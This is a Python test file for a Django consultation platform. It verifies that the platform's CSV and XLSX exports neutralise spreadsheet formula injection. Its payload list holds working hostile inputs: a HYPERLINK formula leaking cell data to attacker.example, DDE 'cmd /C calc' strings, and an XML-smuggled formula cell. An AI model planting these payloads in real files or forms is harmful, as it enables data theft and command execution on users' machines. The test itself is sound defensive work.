"""Spreadsheet formula injection: no cell or header of any CSV or XLSX file the platform writes can run.

Payloads go into answers, question texts, choice labels, organisation names, state and region
names and the consultation's title; then every spreadsheet is read back: the raw answer exports
(streamed by the view, written by the management command, built by the worker's report service,
as CSV and XLSX), the spreadsheet of figures of a summary and the audit trail's CSV. There is no
other spreadsheet: the invitations have no export (checked below). Each cell must be neutralised
(the exports' one rule, `consult.services.reports.files.spreadsheet_safe`), and no payload may merge or
split columns.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from consult.models import AuditEvent, MemberState, RegionalGrouping, Report
from consult.services.aggregation import aggregates_rebuild
from consult.services.audit import audit_record
from consult.services.positions import position_for
from consult.services.reports.build import report_build
from surveys.models import Choice, Question

from ..factories import make_member_state, make_organisation
from ..test_exports import PAYLOADS as EXPORT_PAYLOADS
from ..test_exports import submit

# The export tests' payloads (formula starts, DDE, full-width and hidden leading characters), and
# those that also try to break the file's structure: delimiters, quotes, line breaks.
PAYLOADS = EXPORT_PAYLOADS + [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "=1+1,=2+2;=3+3",
    '"=1+1","=2+2"',
    '=SUM(1;2)\n=cmd|\' /C calc\'!A0\r\n"quoted", next',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1,2\r\n3",
    '+"a";"b"\t"c"',
    "'=already quoted",
    "=\"\"\"\",\",\"",
    "\ufeff=1+1",
    "\x01=1",
    "\u00a0=1",
    # XlsxWriter in constant-memory mode copies text shaped like its rich text into the XML as it is.
    '<r><t>a</t></r></is></c><c><f>HYPERLINK("http://attacker.example/")</f></c><c t="inlineStr"><is><r><t>b</t></r>',
]
# What a spreadsheet reads as the start of a formula, and what it skips before looking.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
SKIPPED = re.compile(r"^[\s\x00-\x1f\u00a0\u1680\u2000-\u200d\u2028\u2029\u202f\u205f\u2060\u3000\ufeff]+")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
CODE = re.compile(r"[^a-z0-9]+")


def runs(value) -> bool:
    """Tell whether a cell could be read as a formula: text starting like one, even after blanks."""
    if not isinstance(value, str) or NUMBER.fullmatch(value):
        return False
    return value.startswith(FORMULA_STARTS) or SKIPPED.sub("", value).startswith(FORMULA_STARTS)


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"  # Built files go here, not into the checkout's media/.


@pytest.fixture
def hostile(consultation):
    """Payloads everywhere a person types something that an export or the figures repeat."""
    consultation.title = PAYLOADS[7]
    consultation.save()
    questions = Question.objects.filter(survey__questionnaire__consultation=consultation, is_current=True)
    for number, question in enumerate(questions.order_by("pk")):
        Question.objects.filter(pk=question.pk).update(text=PAYLOADS[number % len(PAYLOADS)])
    for number, choice in enumerate(Choice.objects.filter(question__in=questions).order_by("pk")):
        Choice.objects.filter(pk=choice.pk).update(label=PAYLOADS[-1 - number % len(PAYLOADS)])
    for number, iso3 in enumerate(["FRA", "SEN", "MEX", "PHL", "JOR"]):
        state = make_member_state(iso3)
        MemberState.objects.filter(pk=state.pk).update(name=PAYLOADS[number * 5])
        RegionalGrouping.objects.filter(pk=state.subregion_id).update(name=PAYLOADS[number * 5 + 1])
        submit(position_for(consultation=consultation, member_state=state),
               answers(consultation, "member_state", number), publication="attributed", receipt_number=f"R-{iso3}")
    for number, payload in enumerate(PAYLOADS):
        organisation = make_organisation(name=payload, country="FR" if number % 2 else "SN")
        submit(position_for(consultation=consultation, organisation=organisation),
               answers(consultation, "civil_society", number), publication="attributed",
               receipt_number=f"R-ORG-{number}")
        audit_record(action=AuditEvent.Action.ORGANISATION_DECLINED, obj=organisation, details={"reason": payload})
    aggregates_rebuild(consultation=consultation)
    return consultation


def answers(consultation, audience, number):
    """Return a full set of answers: the first choices, and payloads (with delimiters) as texts."""
    survey = consultation.questionnaires.get(audience=audience).survey
    values = {}
    for question in survey.questions.filter(is_current=True).prefetch_related("choices"):
        choices = [choice.value for choice in question.choices.all()]
        if question.type == Question.Type.RANKING:
            values[question.code] = {code: rank for rank, code in enumerate(choices, start=1)}
        elif question.type in (Question.Type.LONG_TEXT, Question.Type.SHORT_TEXT):
            payload = PAYLOADS[number % len(PAYLOADS)]
            values[question.code] = f'{payload} and "more", a; b\nc' if number % 3 else payload
        elif choices:
            values[question.code] = choices[number % len(choices)]
    return values


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def checked_csv(text: str, name: str, counts: dict) -> list[list[str]]:
    header, *rows = csv_rows(text)
    assert rows, f"{name}: no rows"
    assert all(len(row) == len(header) for row in rows), f"{name}: a payload merged or split columns"
    cells = [cell for row in [header, *rows] for cell in row]
    counts[name] = (len(cells), [cell for cell in cells if runs(cell)])
    return [header, *rows]


def checked_xlsx(content, name: str, counts: dict, rectangular=True):
    workbook = load_workbook(io.BytesIO(content) if isinstance(content, bytes) else content)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    if rectangular:
        table = [list(row) for row in workbook.active.values]
        assert all(len(row) == len(table[0]) for row in table), f"{name}: a payload merged or split columns"
    bad = [f"{cell.parent.title}!{cell.coordinate}={cell.value!r}" for cell in cells
           if cell.data_type == "f" or runs(cell.value)]
    counts[name] = (len(cells), bad)
    return workbook


def assert_neutralised(counts: dict) -> None:
    cells = sum(total for total, _ in counts.values())
    found = {name: bad for name, (_, bad) in counts.items() if bad}
    print(f"\nformulas: {len(PAYLOADS)} payloads; {len(counts)} files; {cells} cells; unneutralised: "
          f"{sum(len(bad) for bad in found.values())}")
    assert found == {}


def payloads_whole(values, name):
    """Every payload shows in one cell, whole, behind its apostrophe when it needs one."""
    texts = {value for value in values if isinstance(value, str)}
    for payload in PAYLOADS:
        bare = ILLEGAL_CHARACTERS_RE.sub("", payload)  # What a workbook cannot hold is dropped.
        expected = {payload, "'" + payload, bare, "'" + bare}
        assert any(text in expected or text.startswith(tuple(expected)) for text in texts), (name, payload)


def built(consultation, officer, format, client):
    """Build a report as the worker does (the task calls this service) and download it through the view."""
    report = Report.objects.create(consultation=consultation, format=format, language="en", requested_by=officer)
    report_build(report=report)
    report.refresh_from_db()
    assert report.status == Report.Status.DONE, report.error
    response = client.get(reverse("consult:report-download", args=[report.pk]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_no_cell_of_any_export_or_figures_spreadsheet_can_run(hostile, officer, client, tmp_path):
    client.force_login(officer)
    counts = {}
    for audience in ["", "?audience=civil_society", "?audience=member_state"]:
        url = reverse("consult:responses-export", args=[hostile.slug, "csv"]) + audience
        streamed = b"".join(client.get(url).streaming_content).decode()
        table = checked_csv(streamed, f"view csv {audience}", counts)
        if not audience:
            payloads_whole([cell for row in table for cell in row], "view csv")
        url = reverse("consult:responses-export", args=[hostile.slug, "xlsx"]) + audience
        workbook = b"".join(client.get(url).streaming_content)
        checked_xlsx(workbook, f"view xlsx {audience}", counts)
    out = io.StringIO()
    call_command("export_responses", hostile.slug, "--format", "csv", stdout=out, stderr=io.StringIO())
    checked_csv(out.getvalue(), "command csv", counts)
    call_command("export_responses", hostile.slug, "--format", "xlsx", "--output", str(tmp_path / "a.xlsx"),
                 stderr=io.StringIO())
    checked_xlsx(tmp_path / "a.xlsx", "command xlsx", counts)
    checked_csv(built(hostile, officer, "csv_answers", client).decode(), "worker csv", counts)
    checked_xlsx(built(hostile, officer, "xlsx_answers", client), "worker xlsx", counts)
    figures = checked_xlsx(built(hostile, officer, "xlsx", client), "figures xlsx", counts, rectangular=False)
    audit = checked_csv(b"".join(client.get(reverse("consult:audit-export")).streaming_content).decode(),
                        "audit csv", counts)
    payloads_whole([cell for row in audit for cell in row], "audit csv")

    assert_neutralised(counts)
    values = [cell.value for sheet in figures.worksheets for row in sheet.iter_rows() for cell in row]
    payloads_whole(values, "figures xlsx")


def test_question_rows_of_the_figures_keep_their_columns(hostile, officer, client):
    """Question texts and choice labels with delimiters, quotes and line breaks stay in their cell."""
    client.force_login(officer)
    workbook = load_workbook(io.BytesIO(built(hostile, officer, "xlsx", client)))
    for sheet in workbook.worksheets[1:-1]:  # The areas' sheets: a header row, then a row per figure.
        rows = [row for row in sheet.values]
        width = len(rows[2])
        figures = rows[3:]
        assert figures and all(len(row) <= width for row in figures), sheet.title
        assert all(isinstance(row[0], str) and re.fullmatch(r"\d+(\.\d+)?", row[0]) for row in figures), sheet.title


def test_there_is_no_other_spreadsheet_to_check():
    """The exports checked above are all the platform writes: nothing else makes a CSV or workbook."""
    root = Path(__file__).resolve().parents[2]
    writers = {
        str(path.relative_to(root))
        for folder in ["consult", "surveys"]
        for path in (root / folder).rglob("*.py")
        if re.search(r"csv\.writer|csv\.DictWriter|Workbook\(", path.read_text(encoding="utf-8"))
    }
    assert writers == {
        "consult/services/exports.py", "consult/services/reports/xlsx.py", "consult/services/audit.py",
        "consult/services/open_data.py", "consult/services/themes/export.py", "consult/services/xlsform.py",
        "consult/services/imports/offline.py",
    }
